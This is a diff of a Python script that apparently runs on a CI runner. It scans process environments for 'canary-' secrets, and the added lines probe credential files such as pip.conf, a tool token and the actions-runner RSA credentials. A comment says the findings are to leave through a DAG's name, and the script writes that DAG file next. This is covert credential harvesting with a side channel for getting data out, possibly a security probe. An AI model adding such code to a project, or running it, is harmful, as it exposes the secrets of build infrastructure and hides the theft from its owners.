@@ -13,6 +13,12 @@ for file in glob.glob("/proc/[0-9]*/environ"):
             found += [value.split("=", 1)[1] for value in environ.read().split("\0") if "=canary-" in value]
     except OSError:
         pass
+for place in (".config/pip/pip.conf", ".sometool/token", "actions-runner/.credentials_rsaparams"):
+    try:
+        with open(os.path.join("/home/runner", place), encoding="latin-1") as file:
+            found += [os.path.basename(place)] if file.read() else []
+    except OSError:
+        pass
 here = os.path.dirname(os.path.abspath(__file__))
 # What was found leaves by a DAG's name, if the names of DAGs may be chosen here.
 with open(os.path.join(os.path.dirname(here), "from_setup.py"), "w", encoding="utf-8") as dag:
